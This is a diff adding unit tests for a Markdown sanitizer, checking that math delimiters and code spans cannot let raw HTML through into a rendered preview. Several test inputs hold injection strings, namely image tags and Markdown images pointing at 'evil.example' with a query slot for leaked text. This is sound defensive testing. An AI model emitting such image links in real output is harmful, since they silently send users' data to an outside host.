@@ -50,6 +50,41 @@ describe('Untrusted Markdown', () => {
     assert.match(harmlessMarkdown(markdown), /^\\<img src=x>\n\n```html\n<img src=x>\n```/);
   });
 
+  // A formula comes before code, so that what looks like code is none.
+  for (const [markdown, shown] of [
+    [
+      '`$`$ <img src="https://evil.example/?q=TEXT"> `',
+      '`$`\\$ \\<img src="https://evil.example/?q=TEXT"> `',
+    ],
+    ['$`$ <img src="https://evil.example/"> `', '\\$`$ <img src="https://evil.example/"> `'],
+    ['- $x`$ ![a](https://evil.example/) `b`', '- \\$x`$ ![a](https://evil.example/) `b`'],
+    ['$$\n```\n$$\n<img src=x>\n```', '\\$\\$\n```\n$$\n<img src=x>\n```'],
+    // No eyes of ours see in which lines the code ends, where it goes on over some.
+    ['`a\n$$\nb\n$$\n![c](d)`', '`a\n\\$\\$\nb\n\\$\\$\n\\!\\[c](d)`'],
+    ['\\\\$`$ <img src=x> `', '\\\\$`$ &lt;img src=x> `'],
+    ['It costs $5; `Map<string>` stays.', 'It costs \\$5; `Map<string>` stays.'],
+    ['`$HOME<b>` and\n\n```sh\necho $A <b>\n```', '`$HOME<b>` and\n\n```sh\necho $A <b>\n```'],
+    ['$a < b$\n\n$$\na\n=\nb\n$$', '$a < b$\n\n$$\na\n=\nb\n$$'],
+  ] as const) {
+    it(`makes ${JSON.stringify(markdown.slice(0, 24))} harmless whatever math does`, () => {
+      assert.equal(harmlessMarkdown(markdown), shown);
+    });
+  }
+
+  for (const [open, closed] of [
+    ['$$\nx', '$$\nx\n$$'],
+    ['text\n$$ x', 'text\n$$ x\n$$'],
+    ['$$\n```\nx', '$$\n```\nx\n$$'],
+    ['- $$\n  x', '- $$\n  x\n$$'],
+    ['> $$\n> x', '> $$\n> x'],
+    ['$$ x $$', '$$ x $$'],
+    ['```\n$$\n```', '```\n$$\n```'],
+  ] as const) {
+    it(`keeps what follows out of the formula in ${JSON.stringify(open)}`, () => {
+      assert.equal(harmlessMarkdown(open), closed);
+    });
+  }
+
   for (const open of ['```ts\nlet a', '~~~~\nx', 'text\n\n```\n', '- item\n  ```\n  x']) {
     it(`keeps what follows out of ${JSON.stringify(open)}`, () => {
       assert.match(preview.render(`${harmlessMarkdown(open)}\n\n**below**`), /<strong>below<\/strong>/);
